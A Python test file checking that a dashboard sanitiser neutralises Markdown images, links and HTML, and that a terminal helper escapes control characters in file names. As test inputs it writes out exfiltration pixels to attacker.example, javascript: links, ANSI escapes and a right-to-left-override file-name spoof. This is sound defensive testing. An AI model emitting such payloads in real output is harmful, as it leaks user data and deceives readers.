"""Answers and names shown safely: inert Markdown for the dashboard, escaped text for terminals.

The Markdown is rendered with markdown-it (CommonMark, as Streamlit's renderer follows it)
and the HTML checked for anything that loads or links; GFM's bare autolinks are not in
CommonMark, so the tests check that their trigger sequences no longer appear.
"""

import re

import pytest
from markdown_it import MarkdownIt

from supercore_core.rendering import inert_markdown, terminal_text

MARKDOWN = MarkdownIt("commonmark")
# What would load remote content or make a link: tags, and the GFM autolink triggers.
ACTIVE_HTML = re.compile(r"<(a|img|script|iframe)\b|<http", re.IGNORECASE)
GFM_AUTOLINK = re.compile(r"(?<!\\)(https?:|www\.)|[\w.+-](?<!\\)@[\w-]", re.IGNORECASE)


def rendered(text: str) -> str:
    html: str = MARKDOWN.render(inert_markdown(text))
    return html


@pytest.mark.parametrize(
    "answer",
    [
        "See ![pixel](http://attacker.example/p.png?leak=secret) now",
        "![pixel](//attacker.example/p.png)",
        "[click me](javascript:alert(1))",
        "[click me](<javascript:alert(1)>)",
        "[click][ref]\n\n[ref]: javascript:alert(1)",
        "![logo][img]\n\n[img]: http://attacker.example/p.png",
        "[ref]\n\n> [ref]: http://attacker.example/x",
        "- [ref][]\n- [ref]: http://attacker.example/x",
        '<img src="http://attacker.example/p.png">',
        "<a href='javascript:alert(1)'>x</a>",
        "<http://attacker.example/x> and <me@attacker.example>",
        "\\[escaped](javascript:alert(1)) \\![also](http://attacker.example/p.png)",
        "  ```\nopened by an indented fence\n```\n![img](http://attacker.example/p.png)\n```",
        "- ```\n  code in a list\n  ```\n![img](http://attacker.example/p.png)\n",
    ],
)
def test_no_image_link_or_html_survives(answer: str) -> None:
    html = rendered(answer)
    assert not ACTIVE_HTML.search(html), html
    assert 'href="' not in html and 'src="' not in html


@pytest.mark.parametrize(
    "answer",
    [
        "visit https://example.com/a or HTTP://EXAMPLE.COM or www.example.com",
        "mail me@example.com",
        "_http://example.com/after-an-underscore",
    ],
)
def test_bare_urls_are_plain_text(answer: str) -> None:
    safe = inert_markdown(answer)
    assert not GFM_AUTOLINK.search(safe), safe
    # Shown as written: the escapes disappear when rendered.
    assert MARKDOWN.render(safe).strip() == f"<p>{answer}</p>"


def test_formatting_and_citations_are_kept() -> None:
    html = rendered("**Revenue** grew [1].\n\n1. fees [2]\n2. costs\n\n# Summary")
    assert "<strong>Revenue</strong> grew [1]." in html
    assert "<li>fees [2]</li>" in html and "<h1>Summary</h1>" in html


def test_fenced_code_is_kept_verbatim_and_inert() -> None:
    answer = "Try:\n```python\nrows = a[0] if x < y else b  # ![i](http://e/p.png)\n```\nDone."
    html = rendered(answer)
    assert (
        "<pre><code>rows = a[0] if x &lt; y else b  # ![i](http://e/p.png)\n</code></pre>" in html
    )
    assert not ACTIVE_HTML.search(html)
    assert "<p>Done.</p>" in html


def test_a_fence_inside_code_cannot_close_it_early() -> None:
    html = rendered("~~~\n~~~~~ not a close\n![x](http://e/p.png)\n")
    assert html.count("<pre>") == 1 and not ACTIVE_HTML.search(html)


def test_entities_stay_text() -> None:
    html = rendered("&#91;x&#93;(http://e) &lt;img src=x&gt;")
    assert "<a" not in html and "<img" not in html


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("report.txt", "report.txt"),
        ("evil\x1b[31mred.txt", "evil\\x1b[31mred.txt"),
        ("fake.txt: 99 chunks\ncompleted x.txt", "fake.txt: 99 chunks\\ncompleted x.txt"),
        ("a\rb\x00c\x9b", "a\\rb\\x00c\\x9b"),
        ("cod\u202etxt.exe", "cod\\u202etxt.exe"),
        ("naïve café.md", "naïve café.md"),
    ],
)
def test_terminal_text_escapes_control_characters(name: str, shown: str) -> None:
    assert terminal_text(name) == shown


def test_terminal_text_can_keep_line_breaks() -> None:
    assert terminal_text("one\n\ttwo\x1b[2J", keep_newlines=True) == "one\n\ttwo\\x1b[2J"
